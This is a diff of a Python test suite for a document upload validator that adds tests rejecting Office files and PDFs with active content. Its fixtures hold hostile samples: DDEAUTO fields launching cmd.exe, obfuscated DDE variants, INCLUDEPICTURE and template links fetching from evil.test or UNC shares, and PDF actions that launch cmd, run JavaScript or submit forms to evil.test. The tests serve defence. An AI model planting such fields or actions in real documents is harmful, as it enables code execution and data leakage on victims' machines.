@@ -13,7 +13,8 @@ from django.core.exceptions import ValidationError
 from pypdf import PdfReader, PdfWriter
 from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
 
-from core.tools.files import documents
+from core.tools import layout
+from core.tools.files import documents, pdfs
 from tests.files import office, pdf
 
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
@@ -65,6 +66,70 @@ def test_what_fetches_from_elsewhere_is_refused(kind: str) -> None:
         "docx", word___rels__settings_dot_xml_dot_rels=relations(kind, "https://evil.test/t.dotm")
     )
     assert "tempat lain" in refusal(data)
+
+
+@pytest.mark.parametrize("kind", ["attachedTemplate", "image"])
+@pytest.mark.parametrize(
+    "target", ["file:///\\\\evil\\t.dotm", "\\\\evil\\t", "//evil/t", "HTTP://e.test/t"]
+)
+def test_what_lies_elsewhere_is_refused_even_if_it_does_not_say_so(kind: str, target: str) -> None:
+    told = relations(kind, target).replace(b' TargetMode="External"', b"")
+    assert "tempat lain" in refusal(office("docx", word___rels__a_dot_rels=told))
+
+
+W = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">%s</w:document>'
+
+
+def inner(document: str) -> str:
+    return document.removesuffix("</w:document>").partition(">")[2]
+
+
+def field(*pieces: str) -> str:
+    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
+    return (
+        W
+        % f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    )
+
+
+@pytest.mark.parametrize(
+    ("part", "words"),
+    [
+        (field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '), "makro"),
+        (field("DD", "EAU", "TO cmd"), "makro"),
+        (field("&#68;DE cmd"), "makro"),
+        (field("QUOTE 68 68 69 65 85 84 79"), "makro"),
+        (W % '<w:fldSimple w:instr="dde cmd a"/>', "makro"),
+        ('<externalLink><a xmlns="urn:x"><ddeLink ddeService="cmd"/></a></externalLink>', "makro"),
+        (field('INCLUDEPICTURE "http://evil.test/a.png" \\d'), "tempat lain"),
+        (field("INCLUDE", 'PICTURE \\d "file:', '//evil/a"'), "tempat lain"),
+        (field('INCLUDETEXT "\\\\\\\\evil\\\\a.docx"'), "tempat lain"),
+    ],
+)
+@pytest.mark.parametrize("coding", ["utf-8", "utf-16"])
+def test_fields_that_act_are_refused_however_they_are_written(
+    part: str, words: str, coding: str
+) -> None:
+    assert words in refusal(office("docx", word__footnotes=part.encode(coding)))
+
+
+def test_fields_that_only_reckon_or_link_are_fine() -> None:
+    for part in (
+        field("PAGE"),
+        field(' HYPERLINK "https://example.org/dde" '),
+        W
+        % (
+            inner(field('INCLUDEPICTURE "C:\\\\Users\\\\a.png"'))
+            + inner(field('HYPERLINK "https://a.test/"'))
+        ),
+        W % "<w:p><w:t>DDEAUTO dijelaskan di sini</w:t></w:p>",
+    ):
+        assert documents.check_office(io.BytesIO(office("docx", word__a_dot_xml=part.encode())))
+
+
+@pytest.mark.parametrize("start", [b"MZ\x90\0", b"\x7fELF\x02"])
+def test_programs_are_refused_whatever_they_are_called(start: bytes) -> None:
+    assert "makro" in refusal(office("docx", word__media__a_dot_png=start + b"\0" * 99))
 
 
 def test_a_link_to_click_is_fine() -> None:
@@ -134,7 +199,7 @@ def test_what_is_no_whole_document_is_refused(data: bytes) -> None:
 
 def broken_pdf(data: bytes) -> str:
     with pytest.raises(ValidationError) as caught:
-        documents.check_pdf(data)
+        pdfs.check_pdf(data)
     return caught.value.messages[0]
 
 
@@ -166,9 +231,9 @@ def additional(writer: PdfWriter) -> None:
     "ignore::DeprecationWarning"
 )  # the cipher of the test's PDF is an old one
 def test_pdfs_are_taken() -> None:
-    documents.check_pdf(pdf())
-    documents.check_pdf(pdf(change=lambda writer: writer.encrypt("rahasia", algorithm="RC4-128")))
-    documents.check_pdf(
+    pdfs.check_pdf(pdf())
+    pdfs.check_pdf(pdf(change=lambda writer: writer.encrypt("rahasia", algorithm="RC4-128")))
+    pdfs.check_pdf(
         pdf(change=lambda writer: writer.add_outline_item("Bab 1", 0))
         + b"\r\n"  # some programs write more line ends
     )
@@ -190,8 +255,82 @@ def test_what_only_begins_like_a_pdf_is_refused(data: bytes) -> None:
     assert "rusak" in broken_pdf(data)
 
 
-@pytest.mark.parametrize("change", [javascript, launch, additional])
-def test_a_pdf_that_runs_something_is_refused(change: Any) -> None:
+def obj(**given: Any) -> DictionaryObject:
+    """Return a PDF dictionary; text beginning with "/" is a name."""
+
+    def made(value: Any) -> Any:
+        if isinstance(value, str):
+            return NameObject(value) if value.startswith("/") else TextStringObject(value)
+        return ArrayObject(value) if isinstance(value, list) else value
+
+    return DictionaryObject({NameObject(f"/{name}"): made(value) for name, value in given.items()})
+
+
+def opening(writer: PdfWriter, **more: Any) -> None:
+    writer.root_object[NameObject("/OpenAction")] = obj(**more)
+
+
+def on_page(writer: PdfWriter, **mark: Any) -> None:
+    own = writer._add_object(obj(Type="/Annot", **mark))
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([own])
+
+
+def in_form(writer: PdfWriter, **given: Any) -> None:
+    inner = writer._add_object(obj(FT="/Btn", **given))
+    outer = writer._add_object(obj(T="luar", Kids=[inner]))
+    writer.root_object[NameObject("/AcroForm")] = obj(Fields=[outer])
+
+
+JS = obj(S="/JavaScript", JS="app.alert(1)")
+ACTING = {
+    "javascript": javascript,
+    "launch": launch,
+    "additional": additional,
+    "goto, then more": lambda w: opening(w, S="/GoTo", D=[], Next=JS),
+    "submit": lambda w: opening(w, S="/SubmitForm", F="http://evil.test/"),
+    "other file": lambda w: opening(w, S="/GoToR", F="\\\\evil\\a.pdf"),
+    "address": lambda w: opening(w, S="/URI", URI="http://evil.test/"),
+    "page": lambda w: w.pages[0].update({NameObject("/AA"): obj(O=JS)}),
+    "link": lambda w: on_page(w, Subtype="/Link", A=obj(S="/Launch", F="cmd")),
+    "link, then more": lambda w: on_page(w, Subtype="/Link", A=obj(S="/URI", Next=JS)),
+    "link acts": lambda w: on_page(w, Subtype="/Link", AA=obj(E=JS)),
+    "attached": lambda w: on_page(w, Subtype="/FileAttachment"),
+    "embedded": lambda w: w.add_attachment("a.exe", b"MZ"),
+    "field": lambda w: in_form(w, A=obj(S="/SubmitForm", F="http://evil.test/")),
+    "field acts": lambda w: in_form(w, AA=obj(C=JS)),
+}
+
+
+@pytest.mark.parametrize("change", ACTING.values(), ids=ACTING)
+def test_a_pdf_that_acts_is_refused(change: Any) -> None:
     data = pdf(change=change)
     assert PdfReader(io.BytesIO(data)).pages
     assert "perintah" in broken_pdf(data)
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda w: opening(w, S="/GoTo", D=[]),
+        lambda w: on_page(w, Subtype="/Link", A=obj(S="/URI", URI="https://example.org/")),
+        lambda w: on_page(w, Subtype="/Link", Dest=ArrayObject()),
+        lambda w: in_form(w, A=obj(S="/ResetForm")),
+    ],
+    ids=["first page", "link", "place", "form"],
+)
+def test_a_pdf_with_links_and_a_form_is_taken(change: Any) -> None:
+    pdfs.check_pdf(pdf(change=change))
+
+
+def test_a_paper_of_this_house_is_taken() -> None:
+    page = '<html lang="id"><title>a</title><h1>a</h1><a href="https://example.org/">b</a>'
+    pdfs.check_pdf(layout.together([page]))
+
+
+def test_a_pdf_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
+    def grow(writer: PdfWriter) -> None:
+        pages = writer.root_object["/Pages"].get_object()
+        pages["/Kids"].append(pages.indirect_reference)
+
+    monkeypatch.setattr(pdfs, "MOST_OBJECTS", 500)
+    assert "bagian demi bagian" in broken_pdf(pdf(change=grow))
